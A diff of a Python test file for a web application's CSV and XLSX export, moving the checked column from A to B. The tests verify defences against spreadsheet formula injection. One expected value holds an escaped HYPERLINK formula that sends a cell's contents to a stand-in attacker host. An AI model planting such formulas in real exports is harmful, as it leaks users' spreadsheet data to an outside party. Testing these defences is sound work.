@@ -85,7 +85,7 @@ def test_no_cell_starts_a_formula_in_any_locale(client, staff, hostile, separato
 
 def test_the_cells_are_neutralised_as_documented(client, staff, hostile):
     text = export(client, staff).get_data(as_text=True)
-    names = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
+    names = [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:]
 
     assert names[0] == 'x;\'=HYPERLINK("https://attacker.example/?leak="&A1)'
     assert names[3] == "Acme; '-2+3"
@@ -118,11 +118,11 @@ def test_a_reimport_of_the_export_gives_back_every_value(client, staff, media_ty
 
 def test_the_xlsx_export_holds_the_same_text_cells(client, staff, hostile):
     text = export(client, staff).get_data(as_text=True)
-    from_csv = [row[0] for row in csv.reader(io.StringIO(text, newline=""))]
+    from_csv = [row[1] for row in csv.reader(io.StringIO(text, newline=""))]
     sheet = openpyxl.load_workbook(io.BytesIO(export(client, staff, XLSX).data)).active
 
-    assert [cell.value for cell in sheet["A"]] == from_csv
-    assert all(cell.data_type == "s" for cell in sheet["A"])
+    assert [cell.value for cell in sheet["B"]] == from_csv
+    assert all(cell.data_type == "s" for cell in sheet["B"])
 
 
 @pytest.mark.parametrize(
